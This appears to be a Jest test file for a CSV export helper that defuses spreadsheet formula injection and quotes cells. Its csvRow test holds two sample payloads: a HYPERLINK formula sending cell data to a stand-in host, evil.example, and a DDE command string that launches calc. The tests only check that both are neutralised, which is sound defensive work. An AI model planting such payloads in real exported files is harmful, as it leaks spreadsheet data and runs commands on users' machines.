import { parse } from 'csv-parse/sync';
import { csvCell, csvRow, defuseFormula } from './csv-cells';

describe('defuseFormula', () => {
  it.each(['=1+1', '+1 555 0100', '-cmd', '@SUM(A1)', '\tTAB', '\rCR', '=HYPERLINK("http://x")'])('prefixes %j with an apostrophe', (text) => {
    expect(defuseFormula(text)).toBe(`'${text}`);
  });

  it.each(['-1.5', '+3', '-0', '-.5', '1e-3', '-2E+4', '17850'])('leaves the number %j alone', (text) => {
    expect(defuseFormula(text)).toBe(text);
  });

  it.each(['Champions', '', ' =1', "'=1", '1=1', 'A-1'])('leaves %j alone (no formula start)', (text) => {
    expect(defuseFormula(text)).toBe(text);
  });

  it('does not take a number followed by text for a number', () => {
    expect(defuseFormula('-1.5+cmd')).toBe("'-1.5+cmd");
  });
});

describe('csvCell', () => {
  it('writes numbers as they are, negative ones included', () => {
    expect(csvCell(-1.5)).toBe('-1.5');
    expect(csvCell(0)).toBe('0');
    expect(csvCell(0.0884)).toBe('0.0884');
    expect(() => csvCell(Number.NaN)).toThrow(RangeError);
  });

  it('quotes commas, quotes and line breaks and doubles quotes (RFC 4180)', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('plain text')).toBe('plain text');
  });

  it('defuses before quoting, so the apostrophe sits inside the quotes', () => {
    expect(csvCell('=A1,B1')).toBe(`"'=A1,B1"`);
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });
});

describe('csvRow', () => {
  it('defuses a customer record whose text starts with =, and keeps its numbers', () => {
    // A shop's customer id and country are free text: either could be a formula.
    const line = csvRow(['=HYPERLINK("http://evil.example/?"&A1,"17850")', '=cmd|\' /C calc\'!A0', 326, -1.5, 'Champions']);
    expect(parse(line)).toEqual([[`'=HYPERLINK("http://evil.example/?"&A1,"17850")`, "'=cmd|' /C calc'!A0", '326', '-1.5', 'Champions']]);
  });

  it('ends with CRLF and reads back with a standard CSV parser', () => {
    const values = ['=2+2', 'a "quoted", text', -1.5, 'x\ny', '@user', '-12.50'];
    const line = csvRow(values);
    expect(line.endsWith('\r\n')).toBe(true);
    expect(parse(line)).toEqual([["'=2+2", 'a "quoted", text', '-1.5', 'x\ny', "'@user", '-12.50']]);
  });
});
